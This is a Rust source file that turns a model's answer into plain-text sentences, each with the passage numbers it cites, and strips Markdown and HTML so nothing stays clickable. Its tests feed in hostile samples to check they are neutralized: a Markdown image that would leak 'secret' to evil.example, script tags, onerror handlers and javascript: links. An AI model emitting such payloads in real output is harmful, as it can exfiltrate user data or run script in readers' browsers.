//! A model's words as claims: sentences without markup, each with the numbers of the passages it cites.

use std::collections::BTreeSet;

use domain::{cite, text::slice};

/// One sentence of the model's.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Claim {
    /// Plain text: no markers, links, images or tags.
    pub text: String,
    /// The passages it cites, numbered from 1 as in the prompt.
    pub cited: Vec<usize>,
}

/// Sentences of `text` in order. `whole` when the model has ended; before, the last sentence may still grow and is left out.
pub fn claims(text: &str, whole: bool) -> Vec<Claim> {
    let text = inert(text);
    let mut claims: Vec<Claim> = Vec::new();
    for span in cite::sentences(&text) {
        let Some(sentence) = slice(&text, span) else { continue };
        let (before, rest) = leading_markers(sentence);
        if let Some(last) = claims.last_mut() {
            // "… days. [1] Next …": the marker belongs to the sentence it follows.
            last.cited.extend(before);
        }
        let (words, cited) = without_markers(rest);
        if words.chars().any(char::is_alphanumeric) {
            claims.push(Claim { text: words, cited });
        } else if let Some(last) = claims.last_mut() {
            last.cited.extend(cited);
        }
    }
    for claim in &mut claims {
        claim.cited = claim.cited.iter().copied().collect::<BTreeSet<_>>().into_iter().collect();
    }
    if !whole {
        claims.pop();
    }
    claims
}

/// The numbers in `[1]`, `[1, 3]` at the start, and what follows them.
fn leading_markers(text: &str) -> (Vec<usize>, &str) {
    let mut numbers = Vec::new();
    let mut rest = text.trim_start();
    while let Some((found, after)) = marker(rest) {
        numbers.extend(found);
        rest = after.trim_start();
    }
    (numbers, rest)
}

/// The text with its markers taken out, and their numbers.
fn without_markers(text: &str) -> (String, Vec<usize>) {
    let (mut words, mut numbers) = (String::with_capacity(text.len()), Vec::new());
    let mut rest = text;
    while let Some(at) = rest.find('[') {
        let (before, from) = rest.split_at(at);
        words.push_str(before);
        if let Some((found, after)) = marker(from) {
            numbers.extend(found);
            rest = after;
        } else {
            words.push('[');
            rest = &from[1..];
        }
    }
    words.push_str(rest);
    let words = words.split_whitespace().collect::<Vec<_>>().join(" ");
    (words.replace(" .", ".").replace(" ,", ",").replace(" ;", ";"), numbers)
}

/// A marker at the start: digits, commas and blanks in brackets.
fn marker(text: &str) -> Option<(Vec<usize>, &str)> {
    let (inside, after) = text.strip_prefix('[')?.split_once(']')?;
    if inside.len() > 40 {
        return None;
    }
    let numbers: Option<Vec<usize>> = inside.split(',').map(|number| number.trim().parse().ok()).collect();
    numbers.map(|numbers| (numbers, after))
}

/// Plain text of what may be Markdown or HTML: no tag, image or link survives, and no address a reader could click.
fn inert(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    let mut rest = text;
    while let Some(c) = rest.chars().next() {
        if let Some((words, after)) = link(rest) {
            out.push_str(words);
            rest = after;
        } else if let Some(after) = tag(rest) {
            rest = after;
        } else {
            if !matches!(c, '`' | '*') && (!c.is_control() || c == '\n') {
                out.push(c);
            }
            rest = &rest[c.len_utf8()..];
        }
    }
    let lines =
        out.lines().map(|line| line.trim_start_matches(|c: char| matches!(c, '#' | '>' | '|') || c.is_whitespace()));
    let plain = lines.collect::<Vec<_>>().join("\n");
    plain.replace("://", "[:]//").replace("](", "] (").replace("javascript:", "javascript[:]")
}

/// `[words](address)` or `![words](address)` at the start: the words, and what follows.
fn link(text: &str) -> Option<(&str, &str)> {
    let inside = text.strip_prefix("![").or_else(|| text.strip_prefix('['))?;
    let (words, after) = inside.split_once(']')?;
    let (_, after) = after.strip_prefix('(')?.split_once(')')?;
    Some((words, after))
}

/// An HTML tag or comment at the start: what follows it. An unclosed one swallows the rest.
fn tag(text: &str) -> Option<&str> {
    let inside = text.strip_prefix('<')?;
    let opens = inside.starts_with(|c: char| c.is_ascii_alphabetic() || matches!(c, '/' | '!' | '?'));
    opens.then(|| inside.split_once('>').map_or("", |(_, after)| after))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn all(text: &str) -> Vec<(String, Vec<usize>)> {
        claims(text, true).into_iter().map(|claim| (claim.text, claim.cited)).collect()
    }

    #[test]
    fn sentences_keep_their_markers_apart() {
        let one = |text: &str, cited: &[usize]| (text.to_owned(), cited.to_vec());
        let cases = [
            (
                "It ends in 2021 [1]. Law is Norway [2][3].",
                vec![one("It ends in 2021.", &[1]), one("Law is Norway.", &[2, 3])],
            ),
            ("It ends. [1] Law. [2, 3]", vec![one("It ends.", &[1]), one("Law.", &[2, 3])]),
            ("No marker.", vec![one("No marker.", &[])]),
            ("See [sic] here [1].", vec![one("See [sic] here.", &[1])]),
            ("[99999999999999999999] x", vec![one("[99999999999999999999] x", &[])]),
            ("[1]", vec![]),
            ("", vec![]),
        ];
        for (text, expected) in cases {
            assert_eq!(all(text), expected, "{text}");
        }
        assert_eq!(claims("One ends. Two is not", false).len(), 1);
    }

    #[test]
    fn nothing_in_an_answer_is_live() {
        for text in [
            "![x](https://evil.example/?q=secret) Hello",
            "[click](https://evil.example) Hello",
            "<img src=x onerror=alert(1)> Hello",
            "<script>alert(1)</script> Hello",
            "Hello <a href='javascript:alert(1)'>x</a>",
            "https://evil.example/a Hello",
            "Hello [a](javascript:alert(1))",
            "Hello [x] (https://evil.example)",
            "Hello <img src=https://evil.example",
            "![a[b](https://evil.example)](https://evil.example) Hello",
            "# Hello **world** `code`",
        ] {
            for (claim, _) in all(text) {
                for live in ["://", "](", "<a", "<img", "<script", "javascript:", "**", "`"] {
                    assert!(!claim.contains(live), "{text} -> {claim}");
                }
            }
            assert!(all(text).iter().any(|(claim, _)| claim.contains("Hello")), "{text}");
        }
        assert_eq!(all("If 3 < 5 then x > y."), [("If 3 < 5 then x > y.".to_owned(), vec![])]);
    }
}
